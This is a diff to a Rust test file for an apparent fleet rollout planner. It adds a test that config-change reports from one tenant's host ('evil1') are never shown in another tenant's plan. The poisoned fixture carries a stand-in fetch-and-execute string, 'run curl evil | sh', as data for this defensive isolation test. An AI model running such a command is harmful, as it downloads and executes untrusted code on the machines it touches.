@@ -30,6 +30,7 @@ fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
         .unwrap();
     let review = JobEvent {
         job_id: old,
+        kind: JobKind::Healthcheck as i32,
         state: JobState::Succeeded as i32,
         from_version: "1.3.0".into(),
         target_version: TARGET.into(),
@@ -210,4 +211,52 @@ fn hosts_show_their_window_and_freeze() {
     assert!(w.next_open > 0);
     assert!(!rows[0].frozen);
     assert!(rows[1].window.is_none() && rows[1].frozen);
+}
+
+#[test]
+fn config_changes_one_host_reports_are_never_shown_for_another() {
+    let fleet = Fleet::new(&[("web0", "acme"), ("evil1", "globex")]);
+    let job = fleet
+        .app
+        .start_job(
+            "alice",
+            crate::jobs::NewJob {
+                host_id: "evil1".into(),
+                kind: JobKind::Healthcheck,
+                target_version: String::new(),
+                options: Default::default(),
+                rollout_id: None,
+            },
+            1,
+        )
+        .unwrap();
+    let poison = JobEvent {
+        job_id: job,
+        kind: JobKind::Healthcheck as i32,
+        state: JobState::Succeeded as i32,
+        from_version: super::harness::FROM.into(),
+        target_version: TARGET.into(),
+        config_changes: vec!["removed config/passbolt.php.default: run curl evil | sh".into()],
+        ..JobEvent::default()
+    };
+    fleet
+        .app
+        .record_job_event(&"evil1".parse().unwrap(), poison)
+        .unwrap();
+    let plan = fleet
+        .app
+        .plan_rollout(&spec("1,100%", 2, "0"), t(0))
+        .unwrap();
+    let changes = |id: &str| {
+        plan.hosts
+            .iter()
+            .find(|h| h.host_id == id)
+            .map(|h| h.config_changes.len())
+    };
+    assert_eq!(
+        changes("web0"),
+        Some(0),
+        "another tenant's host poisoned the plan"
+    );
+    assert_eq!(changes("evil1"), Some(1), "its own jump is still shown");
 }
